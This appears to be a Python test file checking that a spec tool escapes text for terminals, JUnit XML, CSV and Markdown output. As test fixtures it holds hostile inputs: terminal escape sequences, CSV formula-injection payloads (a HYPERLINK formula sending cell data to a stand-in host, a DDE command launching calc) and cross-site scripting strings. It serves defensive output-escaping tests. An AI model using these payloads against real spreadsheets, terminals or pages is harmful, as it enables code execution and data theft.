"""Text from a spec file reaches every reader as text, never as something the reader acts on.

Each output format escapes for its own reader: a terminal (control characters shown as ``\\x1b``,
never sent), JUnit XML (characters XML 1.0 cannot carry, shown the same way), CSV (a cell a
spreadsheet would run as a formula starts with an apostrophe), and the Markdown of ``diff``
(HTML and mentions escaped).  Each test plants the hostile text in a spec and reads the output
back with the reader's own parser where there is one (xml.etree, csv, a CommonMark-minded check).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from generator.cli import EXIT_BAD_INPUT, main
from generator.diff import _md
from generator.importing import plan_import, write_planned
from generator.report import show_controls, xml_text
from generator.table import guard_cell, unguard_cell

from .conftest import MINIMAL

# ESC sequences that clear the screen and colour what follows, a carriage return that lets later text
# overwrite the line, a bell, NUL, DEL, a C1 control and a right-to-left override.
HOSTILE = "\u001b[2J\u001b[31mred\u001b[0m \r over \u0007\u0000\u007f\u009b\u202e"
HOSTILE_TOML = "\\u001b[2J\\u001b[31mred\\u001b[0m \\r over \\u0007\\u0000\\u007f\\u009b\\u202e"
RAW_CONTROLS = re.compile("[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]")


def _waived_tree(tree: Path, reason: str, rule: str = "below-nyquist") -> None:
    """ACC-1 sampled too slowly (a below-nyquist error), waived with ``reason`` (TOML escapes allowed)."""
    acc = tree / "channels" / "ACC-1.md"
    acc.write_text(acc.read_text(encoding="utf-8").replace(
        'converter = "ds"', 'converter = "ds"\nrate = "16 kS/s"\n\n[[waiver]]\n'
        f'rule = "{rule}"\nreason = "{reason}"'), encoding="utf-8")


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# -------------------------------------------------------------------------------- terminal


def test_show_controls() -> None:
    assert show_controls(HOSTILE) == "\\x1b[2J\\x1b[31mred\\x1b[0m \\x0d over \\x07\\x00\\x7f\\x9b\\u202e"
    assert show_controls("tab\tand\nnew line, µ ± √ ²") == "tab\tand\nnew line, µ ± √ ²"


def test_a_waiver_reason_reaches_the_terminal_as_visible_text(minimal_tree: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    _waived_tree(minimal_tree, HOSTILE_TOML)
    code, out, _ = _run(capsys, "check", str(minimal_tree))
    assert "waived: \\x1b[2J\\x1b[31mred" in out
    assert not RAW_CONTROLS.search(out)
    # the same for the messages of bad input on stderr, source lines included
    acc = minimal_tree / "channels" / "ACC-1.md"
    acc.write_bytes(acc.read_bytes().replace(b'converter = "ds"', b'converter = "d\x1b[2Js" # \x1b]0;pwned\x07'))
    code, out, err = _run(capsys, "check", str(minimal_tree))
    assert code == EXIT_BAD_INPUT and "\\x1b[2J" in err and not RAW_CONTROLS.search(out + err)


# ------------------------------------------------------------------------------ JUnit XML


def test_xml_text_keeps_only_what_xml_1_0_allows() -> None:
    # XML 1.0 section 2.2, Char: #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
    assert xml_text("a\u0000b\u001bc\ufffed\uffff\te\nf\rg\U0001f600") == \
        "a\\x00b\\x1bc\\ufffed\\uffff\te\nf\rg\U0001f600"


def test_junit_with_control_characters_is_well_formed(minimal_tree: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    _waived_tree(minimal_tree, HOSTILE_TOML)
    # and a stale waiver whose rule id carries them too: its message goes into a failure
    acc = minimal_tree / "channels" / "ACC-1.md"
    acc.write_text(acc.read_text(encoding="utf-8").replace(
        "+++\nA plain", f'\n[[waiver]]\nrule = "x{HOSTILE_TOML}"\nreason = "r"\n+++\nA plain'), encoding="utf-8")
    _, out, _ = _run(capsys, "check", str(minimal_tree), "--format", "junit", "--fail-on", "warning")
    root = ET.fromstring(out.split("\n", 1)[1])  # the reader's own parser: raises on any bad character
    skipped = [el.get("message", "") for el in root.iter("skipped")]
    failures = [el.get("message", "") for el in root.iter("failure")]
    assert any("waived: \\x1b[2J\\x1b[31mred" in m for m in skipped), skipped
    assert any("x\\x1b[2J" in m and "\\x00" in m for m in failures), failures


# ---------------------------------------------------------------------------------------- CSV

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)", "\tTAB", "\rCR", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe(text: str) -> None:
    # OWASP, CSV Injection: a cell beginning with = + - @ tab or carriage return gets a leading
    # apostrophe (from memory); one already beginning with an apostrophe gets one more, so that
    # import gives back exactly what export was given
    assert guard_cell(text) == "'" + text and unguard_cell(guard_cell(text)) == text


@pytest.mark.parametrize("text", ["-3.5", "-1e-05", "+7", "plain", "", "a=b", "'"])
def test_plain_numbers_and_text_stay_as_they_are(text: str) -> None:
    guarded = guard_cell(text)
    assert unguard_cell(guarded) == text
    assert guarded == text or text.startswith("'")


def test_export_neutralises_formulas_and_import_reads_them_back(minimal_tree: Path, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    channels = sorted((minimal_tree / "channels").glob("*.md"))
    for path, title in zip(channels, FORMULAS, strict=False):
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(r'^title = ".*"$', f"title = {json.dumps(title)}", text, count=1, flags=re.M),
                        encoding="utf-8")
    code, out, _ = _run(capsys, "export", str(minimal_tree))
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))  # the reader a spreadsheet import would use
    assert [r["title"] for r in rows] == ["'" + t for t in FORMULAS[: len(channels)]]
    for row in rows:
        for column, cell in row.items():
            if cell and cell[0] in "=+-@\t\r":
                assert re.fullmatch(r"[+-]?[0-9.]+(?:e[+-]?[0-9]+)?", cell), (column, cell)  # numbers only
    assert out.splitlines()[1].startswith('"')  # text cells quoted, so no separator inside splits them
    table = tmp_path / "back.csv"
    table.write_text(out, encoding="utf-8")
    back = tmp_path / "back"
    (back / "channels").mkdir(parents=True)
    (back / "system.toml").write_bytes((MINIMAL / "system.toml").read_bytes())
    write_planned(back, plan_import(back, table))
    titles = sorted(re.search(r"^title = (.*)$", p.read_text(encoding="utf-8"), re.M).group(1)  # type: ignore[union-attr]
                    for p in (back / "channels").glob("*.md"))
    assert titles == sorted(json.dumps(t) for t in FORMULAS[: len(channels)])


# ----------------------------------------------------------------------------------- Markdown


def test_markdown_cells_carry_no_html_no_markup_and_no_mentions() -> None:
    cell = _md('<img src=x onerror=alert(1)> @alice, @org/team and #12; [x](javascript:y) **b** a|b `c` ~~s~~')
    assert "<" not in cell and ">" not in cell and "&lt;img" in cell
    assert re.search(r"(?<![\w`])@[A-Za-z0-9]", cell) is None  # no mention left whole
    assert "@\u2060alice" in cell and "#\u2060" + "12" in cell
    for mark in ("[", "]", "*", "|", "`", "~"):
        assert re.search(r"(?<!\\)" + re.escape(mark), cell) is None, mark  # each one escaped
    assert "\n" not in _md("line one\nline two")
    assert _md("someone@example.org") == "someone@example.org"  # an address is not a mention


def test_diff_markdown_escapes_spec_text(minimal_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # a stale waiver's message carries its rule id, as written in the spec
    _waived_tree(minimal_tree, "reason", rule="<script>alert(1)</script> @alice | x")
    code, out, _ = _run(capsys, "diff", str(MINIMAL), str(minimal_tree), "--format", "markdown", "--fail-on", "never")
    assert code == 0 and "stale-waiver" in out
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert "@\u2060alice" in out and "@alice" not in out
    assert all(line.count("|") - line.count("\\|") in (0, 3, 6) for line in out.splitlines()), out
